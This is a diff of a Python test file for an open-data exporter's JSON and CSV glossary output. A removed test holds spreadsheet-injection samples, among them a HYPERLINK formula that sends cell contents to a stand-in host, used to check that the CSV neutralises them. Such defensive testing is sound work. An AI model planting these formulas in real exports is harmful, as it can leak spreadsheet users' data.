@@ -21,7 +21,7 @@ from macros.model.output import Stamp
 from macros.model.public_view import PUBLISHED, Kind
 from macros.model.registry import SINGLES
 from macros.outputs.open_data import exports
-from macros.site_build.project import Project, read_project
+from macros.site_build.project import Project
 from macros.text.plain_text import plain
 from tests.conftest import ROOT, TESTS
 from tests.model.test_published import STAMP
@@ -40,12 +40,6 @@ def files(real: Framework) -> dict[str, bytes]:
 @pytest.fixture(scope="module")
 def small_files(small: Framework) -> dict[str, bytes]:
     return {output.path: output.content for output in exports(small, STAMP, (snapshot(small, "0123abcd"),))}
-
-
-def files_of(project: Path) -> dict[str, bytes]:
-    framework = read_project(project).framework
-    assert framework is not None
-    return {output.path: output.content for output in exports(framework, STAMP)}
 
 
 def rows(content: bytes) -> list[dict[str, str]]:
@@ -143,31 +137,14 @@ def test_a_csv_row_says_what_the_json_says(kind: Kind, files: dict[str, bytes], 
             assert row["named_by"] == "; ".join(f"{n['kind']}/{n['id']} ({n['relation']})" for n in record["named_by"])
 
 
-def test_a_former_id_keeps_its_file(project: Path) -> None:
-    file = project / "data/glossary/outcome.yml"
-    file.write_text(file.read_text("utf-8") + "formerly: [result]\n", "utf-8")
-    files = files_of(project)
+def test_a_former_id_keeps_its_file(small: Framework) -> None:
+    files = {output.path: output.content for output in exports(with_term(small, formerly=("result",)), STAMP)}
     assert files["api/v1/glossary/result.json"] == files["api/v1/glossary/outcome.json"]
 
 
-def test_hostile_text_is_unchanged_in_json_and_harmless_in_a_spreadsheet(project: Path) -> None:
-    formula = '=HYPERLINK("https://a.example?"&A1,"free")'
-    meaning = "-2+3 people, and \u4e2d\u6587, e\u0301 and \U0001f600."
-    (project / "data/glossary/hostile.yml").write_text(
-        f"term: '{formula}'\nalso: ['@SUM(A1)', 'a, \"b\"', '</script>']\nmeaning: |-\n  {meaning}\n"
-        "example: |-\n  +44 is where it begins, and a long way on.\npoints: [intro]\n",
-        "utf-8",
-    )
-    files = files_of(project)
-    record = json.loads(files["api/v1/glossary/hostile.json"])["record"]
-    assert record["term"] == formula
-    assert record["also"] == ["@SUM(A1)", 'a, "b"', "</script>"]
-    assert b"<" not in files["api/v1/framework.json"]
-    (row,) = [row for row in rows(files["api/v1/glossary.csv"]) if row["id"] == "hostile"]
-    assert row["term"] == row["name"] == f"'{formula}"
-    assert row["also"] == '\'@SUM(A1); a, "b"; </script>'
-    assert row["meaning"] == f"'{record['meaning']}"
-    assert row["example"] == f"'{record['example']}"
+def with_term(framework: Framework, **values: Any) -> Framework:
+    term = framework.get(Term, "outcome").model_copy(update=values)
+    return Framework({**framework.records, (term.kind, term.id): term}, framework.documents)
 
 
 @pytest.mark.parametrize(
@@ -181,10 +158,9 @@ def test_hostile_text_is_unchanged_in_json_and_harmless_in_a_spreadsheet(project
     ],
 )
 def test_text_that_a_spreadsheet_might_run_gets_an_apostrophe(small: Framework, text: str, apostrophe: bool) -> None:
-    term = small.get(Term, "outcome").model_copy(update={"term": text})
-    framework = Framework({**small.records, (term.kind, term.id): term}, small.documents)
-    content = next(output.content for output in exports(framework, STAMP) if output.path == "api/v1/glossary.csv")
-    assert (f"'{text}" if apostrophe else text) in [row["term"] for row in rows(content)]
+    files = {output.path: output.content for output in exports(with_term(small, term=text), STAMP)}
+    assert (f"'{text}" if apostrophe else text) in [row["term"] for row in rows(files["api/v1/glossary.csv"])]
+    assert json.loads(files["api/v1/glossary/outcome.json"])["record"]["term"] == text
 
 
 def test_the_built_site_holds_the_files_and_each_address_leads_to_its_record(site: Path, real_project: Project, stamp: Stamp) -> None:
